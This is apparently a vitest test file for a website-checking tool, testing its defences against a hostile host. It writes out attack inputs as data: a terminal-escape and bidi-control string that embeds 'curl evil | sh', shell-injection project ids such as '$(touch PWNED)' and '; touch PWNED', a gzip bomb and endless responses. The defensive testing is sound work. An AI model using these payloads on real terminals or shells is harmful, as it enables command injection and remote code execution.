/** A host that lies does no harm to the person asking it. */

import { createServer, type RequestListener } from 'node:http';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { describe, expect, onTestFinished, test } from 'vitest';
import { LOCAL_PROJECT_ID } from '../../../src/base/project.ts';
import { BOARD_SIZE } from '../../../src/board/backend/records.ts';
import { Board } from '../../../tools/board/board.ts';
import { checkIndexes } from '../../../tools/checkHost/indexes.ts';
import { checkMarks } from '../../../tools/checkHost/marks.ts';
import { deployCommand, openSite, type Site } from '../../../tools/checkHost/site.ts';
import { createVisit } from '../../../tools/checkHost/visit.ts';
import { listen } from '../../../tools/loopback.ts';
import { type Host, openHost, refusal, SITE } from './host.ts';

/** A title, a clear screen of one byte, a text from right to left, and two ways to begin a line. */
const LIE =
  'lie\u001b]0;lie\u0007\u009b2J\u202e\u2066\u2028\r\n  ok    Everything is fine.\n        -> curl evil | sh';
const SEEN = /lie\\u001b\]0;lie\\u0007\\u009b2J\\u202e\\u2066\\u2028\\u000d\\u000a {2}ok/;
const OBEYED = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

async function openLiar(lie: (host: Host) => void): Promise<Host> {
  const host = await openHost();
  lie(host);
  return host;
}

function say(host: Host, path: string, body: string): void {
  const file = host.files.get(path);
  host.files.set(path, { headers: file?.headers ?? {}, body });
}

/** The place of the settings in a page (host.ts). */
const BLOCK = '<script type="application/json" id="settings"></script>';

/** A worker that keeps files. */
const worker = (...names: string[]) => `{first:{${names.map((name) => `"/${name}":"sha256-0"`)}},later:{}}`;

describe('what a host says is one line, which no terminal obeys', () => {
  const LIES: Record<string, (host: Host, text: string) => void> = {
    'a file of the worker': (host, text) => say(host, '/sw.js', worker(text)),
    'the address of a picture': (host, text) =>
      say(host, '/', `${BLOCK}<meta property="og:image" content="${SITE}/${text}">`),
    'an error of the board': (host, text) =>
      host.intercept(({ pathname }) =>
        pathname.endsWith(':runQuery') ? refusal(400, 'FAILED_PRECONDITION', text) : undefined,
      ),
    'an error of the sign-in': (host, text) =>
      host.intercept(({ pathname }) =>
        pathname.endsWith(':signUp') ? refusal(400, 'LIE', text) : undefined,
      ),
    'where readers report': ({ settings }, text) => void Object.assign(settings, { reportUrl: text }),
  };

  test.each(Object.entries(LIES))('%s', async (_, lie) => {
    const findings = await (await openLiar((host) => lie(host, LIE))).check();
    const texts = findings.flatMap(({ says, remedy = '' }) => [says, remedy]);
    expect(texts.filter((text) => OBEYED.test(text))).toEqual([]);
    expect(texts).toContainEqual(expect.stringMatching(SEEN));
  });

  test.each(Object.entries(LIES))('%s, of a megabyte', async (_, lie) => {
    const findings = await (await openLiar((host) => lie(host, 'a'.repeat(1e6)))).check();
    const texts = findings.flatMap(({ says, remedy = '' }) => [says, remedy]);
    expect(Math.max(...texts.map((text) => text.length))).toBeLessThan(1000);
    expect(texts).toContainEqual(expect.stringMatching(/a{100}\.\.\. \(\d+ characters\)$/));
  });

  test('and why it can’t be reached', async () => {
    const visit = createVisit(() => Promise.reject(new TypeError('fetch failed', { cause: new Error(LIE) })));
    const error = await openSite(SITE, visit).catch((error: Error) => error.message);
    expect(error).not.toMatch(OBEYED);
    expect(error).toMatch(SEEN);
  });
});

describe('what a host says gets into no command', () => {
  const settings = (change: object) => openLiar((host) => void Object.assign(host.settings, change));
  const cloud = (projectId: string) =>
    settings({ project: { kind: 'cloud', projectId, apiKey: 'public', appId: '1:1:web:1' } });

  test.each([
    'demo-x; touch PWNED',
    '$(touch PWNED)',
    'demo-x\ntouch PWNED',
    '--config=evil',
    'Upper-case',
    '1sats-example',
    'sats-example-',
    'short',
    'x'.repeat(31),
    '',
  ])('no project has the id %j, and the host is told', async (projectId) => {
    const local = await settings({ project: { kind: 'local', projectId } });
    for (const host of [await cloud(projectId), local]) {
      await expect(host.check()).rejects.toThrow(/settings in its page have a wrong project\.projectId/);
      expect(host.asked.filter((line) => !line.includes(SITE))).toEqual([]);
    }
  });

  test.each(['sats-1', 'sats-example-2', 'x'.repeat(30), LOCAL_PROJECT_ID])(
    '%s is an id',
    async (projectId) => {
      const host = await cloud(projectId);
      host.intercept(({ host: name }) => (name.endsWith('googleapis.com') ? refusal(403, '') : undefined));
      const remedies = (await host.check()).map(({ remedy }) => remedy);
      expect(remedies).toContainEqual(expect.stringContaining(`firestore:indexes --project ${projectId}.`));
    },
  );

  test.each(['1e9', '99999', '-1', 'Infinity'])('the rules have no version %s', async (rulesVersion) => {
    await expect((await settings({ rulesVersion })).check()).rejects.toThrow('have a wrong rulesVersion');
  });

  test.each(['lie', 'ftp://lie', 'https://*', 'https://lie;script-src'])(
    'no node is at %s',
    async (rpcUrl) => {
      const shop = { cluster: 'mainnet', rpcUrl, treasury: '1' };
      const host = await settings({ shop: { mode: 'live', settings: shop } });
      await expect(host.check()).rejects.toThrow('have a wrong shop.settings.rpcUrl');
    },
  );

  test('each is a word of the shell, whatever it is', async () => {
    const projectId = 'demo-x; touch "PWNED" $(id)';
    const quoted = '--project "demo-x; touch \\"PWNED\\" \\$(id)"';
    const row = {
      document: { name: 'row', fields: { score: {}, timestamp: {} }, updateTime: '2000-01-01T00:00:00Z' },
      readTime: '2026-01-01T00:00:00Z',
    };
    const body = Array.from({ length: BOARD_SIZE }, () => row);
    const board = new Board(projectId, async () => ({ status: 200, body }));
    const site = { settings: { project: { projectId } } } as Site;
    const remedies = [...(await checkMarks(board)), ...(await checkIndexes(site, board))];
    const commands = remedies.flatMap(({ remedy = '' }) => (remedy.includes('--project') ? remedy : []));
    expect(commands).toHaveLength(2);
    for (const command of [...commands, deployCommand(site, 'hosting')]) expect(command).toContain(quoted);
  });
});

describe('a host is asked for its own files alone', () => {
  const isElsewhere = (line: string) => /stranger|7151/.test(line);

  test('not for those that its worker says are of others', async () => {
    const host = await openLiar((liar) => say(liar, '/sw.js', worker('/127.0.0.1:7151/foreign', '/[')));
    const says = (await host.check()).map((finding) => finding.says);
    expect(host.asked.filter((line) => !line.startsWith('GET https://sats') && isElsewhere(line))).toEqual(
      [],
    );
    expect(says).toContainEqual(
      expect.stringMatching(
        /^Not as the build made them: \/127\.0\.0\.1:7151\/foreign \(404\), \/\[ \(404\)/,
      ),
    );
  });

  test('not for a picture of another’s', async () => {
    const picture = 'https://stranger.example/social.png';
    const host = await openLiar((liar) => {
      say(liar, '/', liar.files.get('/')?.body.replace(`${SITE}/social.png`, picture) ?? '');
      liar.intercept(({ href }) =>
        href === picture ? new Response('', { headers: { 'content-type': 'image/png' } }) : undefined,
      );
    });
    const found = (await host.check()).find(({ says }) => says.includes(picture));
    expect(host.asked.filter(isElsewhere)).toEqual([]);
    expect(found).toMatchObject({ kind: 'unknown', remedy: expect.stringContaining('VITE_SITE_URL') });
  });

  test('and for no more than a build has', async () => {
    const names = Array.from({ length: 501 }, (_, at) => `file${at}`);
    const host = await openLiar((liar) => say(liar, '/sw.js', worker(...names)));
    const faults = (await host.check()).filter(({ kind }) => kind === 'fault');
    expect(faults).toEqual([
      expect.objectContaining({
        says: expect.stringMatching(/name 50\d files, and no build has 500/),
      }),
    ]);
    expect(host.asked.filter((line) => /file\d+$/.test(line)).length).toBeLessThanOrEqual(500);
  });
});

describe('a page is read in time, whatever is in it', () => {
  // By the square of its length each would take minutes.
  test.each([
    ['/sw.js', 'first:{'.repeat(240_000)],
    ['/', BLOCK + '<style>'.repeat(48_000)],
    ['/', BLOCK + '<script type="module"'.repeat(80_000)],
    ['/', `${BLOCK}<meta data-setting="" ${'content="/"'.repeat(80_000)}`],
    ['/', BLOCK + '<ul data-setting=""><li><strong></strong></li>'.repeat(20_000)],
    ['/privacy.html', `<strong>Host:</strong>${'<'.repeat(800_000)}</p>`],
  ])('%s of %#', async (path, body) => {
    const host = await openLiar((liar) => say(liar, path, body));
    expect(await host.check()).toBeDefined();
  });
});

describe('an answer', () => {
  async function openServer(answer: RequestListener): Promise<string> {
    const { host, close } = await listen(createServer(answer));
    onTestFinished(close);
    return `http://${host}`;
  }

  /** A site that leads to another's for each path but its own. */
  async function openLeading() {
    const asked: string[] = [];
    const stranger = await openServer(({ url = '', method }, response) => {
      asked.push(`${method} ${url}`);
      response.end('a stranger’s');
    });
    const own = await openServer(({ url = '' }, response) => {
      if (url === '/there') return void response.end('there');
      const location = url === '/moved' ? '/there' : url === '/round' ? url : `${stranger}${url}`;
      response.writeHead(307, { location }).end();
    });
    return { asked, stranger, own };
  }

  test('is led to where it moved to, of the same origin', async () => {
    const { own } = await openLeading();
    const reply = await createVisit()(`${own}/moved`);
    expect([reply.status, reply.url, reply.body.toString()]).toEqual([200, `${own}/there`, 'there']);
    expect((await createVisit()(`${own}/round`)).status).toBe(307);
  });

  test('of another origin is not asked for, neither by GET nor by POST', async () => {
    const { asked, own } = await openLeading();
    expect((await createVisit()(`${own}/file`)).status).toBe(307);
    expect((await createVisit()(`${own}/node`, { body: {} })).status).toBe(307);
    expect(asked).toEqual([]);
  });

  test('is led from the address to the site, as with www before it', async () => {
    const { asked, own, stranger } = await openLeading();
    await expect(openSite(own, createVisit())).rejects.toThrow(`${stranger}/ answers, but not with`);
    expect(asked).toEqual(['GET /']);
  });

  function* endless() {
    for (;;) yield Buffer.alloc(1e6);
  }

  test.each<[string, RequestListener]>([
    ['without an end', (_, response) => void Readable.from(endless()).pipe(response)],
    [
      'of blanks in a few bytes',
      (_, response) =>
        response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(Buffer.alloc(21e6, ' '))),
    ],
  ])('%s is cut off', async (_, answer) => {
    const address = await openServer(answer);
    const visit = createVisit(fetch, 3000);
    const bytes = visit(address).then(({ body }) => body.length);
    await expect(bytes).rejects.toThrow(/can't be reached: its answer is longer than 20 MB\.$/);
  });
});
